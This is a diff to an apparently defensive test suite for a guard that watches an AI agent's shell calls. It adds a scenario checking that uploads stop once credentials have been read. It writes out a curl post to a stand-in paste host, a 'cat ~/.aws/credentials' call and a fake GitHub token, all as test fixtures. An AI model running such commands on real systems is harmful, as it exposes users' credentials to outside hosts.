@@ -16,6 +16,9 @@ const secret = 'harness-marker-5f2c81'
 /** Of the form that the detector knows, made up. */
 const token = `ghp_${'Qm7R2kV9xT4bN8wL3cJ6'}${'yH5dF1sG0pZaXe2U'}`
 
+/** Nobody is there to get it; what it leaves shows that it ran. */
+const upload = (left: string): string => `curl -s -m 2 -d hello https://paste.example/x; echo sent > ${left}`
+
 const scenarios: readonly Scenario[] = [
   {
     name: 'shell-allowed',
@@ -161,6 +164,26 @@ const scenarios: readonly Scenario[] = [
       check('rest told', told(evidence, 'harness-before')),
       check('hook asked', audited(evidence, 'e2e.no-secrets')),
       finished(evidence, 1),
+    ],
+  },
+  {
+    name: 'secret-then-upload',
+    title: 'an upload that runs stops running when an earlier call of the session has read credentials',
+    policy: policy('').replace('rules:\n', 'exceptions: [{ rule: "secrets.*", reason: They may be read here. }]\n'),
+    moments: ['before-tool'],
+    closed: true,
+    files: { '../home/.aws/credentials': `[default]\naws_access_key_id = ${secret}\n` },
+    calls: () => [
+      { kind: 'shell', command: upload('before.txt') },
+      { kind: 'shell', command: 'cat ~/.aws/credentials' },
+      { kind: 'shell', command: upload('after.txt') },
+    ],
+    checks: evidence => [
+      check('ran before', evidence.exists('before.txt')),
+      check('secret read', told(evidence, secret)),
+      guard('absent', !evidence.exists('after.txt')),
+      check('rule told', told(evidence, 'exfiltration.after-secret')),
+      finished(evidence, 3),
     ],
   },
 ]
